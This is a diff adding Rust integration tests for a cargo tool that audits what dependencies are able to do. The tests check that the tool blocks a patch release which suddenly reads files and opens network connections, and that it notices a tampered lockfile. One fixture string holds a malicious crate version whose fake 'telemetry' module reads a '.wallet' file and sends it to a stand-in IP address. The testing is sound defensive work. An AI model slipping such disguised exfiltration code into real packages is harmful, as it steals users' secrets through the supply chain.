@@ -1,0 +1,201 @@
+//! The story of the announcement: a patch release that begins to open a socket and to read a wallet.
+
+mod registry;
+
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+
+use registry::Registry;
+
+const TOOL: &str = env!("CARGO_BIN_EXE_cargo-nanobuild");
+
+const HONEST: &str = "\
+/// What to tell somebody.
+pub fn message(who: &str, what: &str) -> String {
+    format!(\"{who}: {what}\")
+}
+";
+
+const DISHONEST: &str = "\
+/// What to tell somebody.
+pub fn message(who: &str, what: &str) -> String {
+    telemetry::count();
+    format!(\"{who}: {what}\")
+}
+
+mod telemetry {
+    use std::io::Write as _;
+
+    pub fn count() {
+        if let Ok(wallet) = std::fs::read(\"/home/user/.wallet\") {
+            if let Ok(mut to) = std::net::TcpStream::connect(\"203.0.113.7:443\") {
+                let _ = to.write_all(&wallet);
+            }
+        }
+    }
+}
+";
+
+const APPLICATION: &str = "fn main() { println!(\"{}\", notifier::message(\"you\", \"hello\")); }\n";
+
+struct App {
+    folder: tempfile::TempDir,
+    target: PathBuf,
+}
+
+impl App {
+    fn new(registry: &Registry) -> Self {
+        let folder = tempfile::tempdir().unwrap();
+        let target = Path::new(env!("CARGO_TARGET_TMPDIR")).join("example");
+        let app = Self { folder, target };
+        app.write("Cargo.toml", "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2024\"\n\n[dependencies]\nnotifier = { version = \"1.0\", registry = \"local\" }\n");
+        app.write("src/main.rs", APPLICATION);
+        app.write(
+            ".cargo/config.toml",
+            &format!("[registries.local]\nindex = \"{}\"\n", registry.index()),
+        );
+        app
+    }
+
+    fn write(&self, file: &str, text: &str) {
+        let path = self.folder.path().join(file);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(path, text).unwrap();
+    }
+
+    fn read(&self, file: &str) -> String {
+        std::fs::read_to_string(self.folder.path().join(file)).unwrap()
+    }
+
+    /// Replaces text that has to be there.
+    fn edit(&self, file: &str, from: &str, to: &str) {
+        let text = self.read(file);
+        assert!(text.contains(from), "{file} has no {from}:\n{text}");
+        self.write(file, &text.replace(from, to));
+    }
+
+    fn run(&self, program: &str, args: &[&str], registry: &Registry) -> (Option<i32>, String) {
+        let mut command = Command::new(program);
+        command
+            .args(args)
+            .current_dir(self.folder.path())
+            .env("CARGO_TARGET_DIR", &self.target)
+            // Guests are built outside of the project's folder here.
+            .env("CARGO_REGISTRIES_LOCAL_INDEX", registry.index())
+            .env_remove("CARGO");
+        let Output { status, stdout, stderr } = command.output().unwrap();
+        let text = String::from_utf8_lossy(&stdout).into_owned() + &String::from_utf8_lossy(&stderr);
+        (status.code(), text)
+    }
+}
+
+#[test]
+fn an_update_that_asks_for_more_stops_and_the_old_version_stays() {
+    let registry = Registry::new();
+    registry.publish("notifier", "1.0.0", HONEST);
+    let app = App::new(&registry);
+    let (code, text) = app.run(TOOL, &["add", "notifier"], &registry);
+    assert_eq!(code, Some(0), "{text}");
+    let (code, text) = app.run(TOOL, &["update"], &registry);
+    assert_eq!(code, Some(0), "{text}");
+    assert!(text.contains("notifier 1.0.0 is the newest version"), "{text}");
+
+    registry.publish("notifier", "1.0.1", DISHONEST);
+    let before = ["Cargo.toml", "Cargo.lock", "nanobuild.toml", "nanobuild.lock"].map(|file| (file, app.read(file)));
+    let (code, text) = app.run(TOOL, &["update", "notifier"], &registry);
+    assert_eq!(code, Some(1), "{text}");
+    for expected in [
+        "fs.read: read files and folders",
+        "net.connect: open network connections",
+        "notifier calls std::fs::read at notifier-1.0.1/src/lib.rs:11",
+        "notifier calls std::net::tcp::TcpStream::connect at notifier-1.0.1/src/lib.rs:12",
+        "> notifier::message",
+        "reached by notifier::message",
+        "nobody is here to decide",
+    ] {
+        assert!(text.contains(expected), "{expected}\n{text}");
+    }
+    for (file, content) in &before {
+        assert_eq!(&app.read(file), content, "{file} changed");
+    }
+    let (code, text) = app.run(TOOL, &["run"], &registry);
+    assert_eq!(code, Some(0), "{text}");
+    assert!(text.contains("you: hello"), "{text}");
+
+    // A yanked version is none, unless it is asked for by name.
+    registry.yank("notifier", "1.0.1");
+    let (code, text) = app.run(TOOL, &["update", "notifier"], &registry);
+    assert_eq!(code, Some(0), "{text}");
+    let (code, text) = app.run(TOOL, &["update", "notifier", "--precise", "1.0.7"], &registry);
+    assert_eq!(code, Some(2), "{text}");
+    assert!(text.contains("1.0.7"), "{text}");
+
+    let (code, text) = app.run(TOOL, &["explain", "notifier"], &registry);
+    assert_eq!(code, Some(0), "{text}");
+    assert!(text.contains("notifier 1.0.0 asks for nothing"), "{text}");
+}
+
+const TWOFOLD: &str = "\
+/// Needs nothing.
+pub fn shorten(text: &str) -> String {
+    text.chars().take(8).collect()
+}
+
+/// Asks the network.
+pub fn look_up(host: &str) -> bool {
+    std::net::TcpStream::connect((host, 80)).is_ok()
+}
+";
+
+#[test]
+fn what_is_not_exposed_falls_away_and_a_shortened_lockfile_is_noticed() {
+    let registry = Registry::new();
+    registry.publish("twofold", "1.0.0", TWOFOLD);
+    let app = App::new(&registry);
+    app.edit(
+        "Cargo.toml",
+        "notifier = { version = \"1.0\"",
+        "twofold = { version = \"1\"",
+    );
+    app.write(
+        "src/main.rs",
+        "fn main() { println!(\"{}\", twofold::shorten(\"a long text\")); }\n",
+    );
+    let ok = |args: &[&str]| {
+        let (code, text) = app.run(TOOL, args, &registry);
+        assert_eq!(code, Some(0), "{args:?}: {text}");
+        text
+    };
+    ok(&["add", "twofold"]);
+    let line = "    \"net.connect: std::net::tcp::TcpStream::connect in twofold\",\n";
+    let reach = "    \"net.connect: twofold::look_up\",\n";
+    let lock = app.read("nanobuild.lock");
+    assert!(lock.contains(line) && lock.contains(reach), "{lock}");
+    assert!(ok(&["explain", "twofold", "net.connect"]).contains("twofold calls std::net::tcp::TcpStream::connect"));
+    assert!(ok(&["list"]).contains("refused net.connect"));
+
+    // Somebody takes the lines out of the lockfile: the same sources say otherwise.
+    app.write("nanobuild.lock", &lock.replace(line, "").replace(reach, ""));
+    let (code, text) = app.run(TOOL, &["build"], &registry);
+    assert_eq!(code, Some(1), "{text}");
+    assert!(
+        text.contains("does not say that twofold asks for net.connect"),
+        "{text}"
+    );
+    app.write("nanobuild.lock", &lock);
+
+    app.edit(
+        "nanobuild.toml",
+        "[nanoprocess.twofold]\n",
+        "[nanoprocess.twofold]\nexpose = [\"shorten\"]\n",
+    );
+    assert!(ok(&["run"]).contains("a long t"));
+    let lock = app.read("nanobuild.lock");
+    assert!(!lock.contains("net.connect"), "{lock}");
+    assert!(ok(&["explain", "twofold"]).contains("asks for nothing"));
+
+    // Exposing it again is asking for more again.
+    app.edit("nanobuild.toml", "expose = [\"shorten\"]", "expose = [\"*\"]");
+    let (code, text) = app.run(TOOL, &["build"], &registry);
+    assert_eq!(code, Some(1), "{text}");
+}
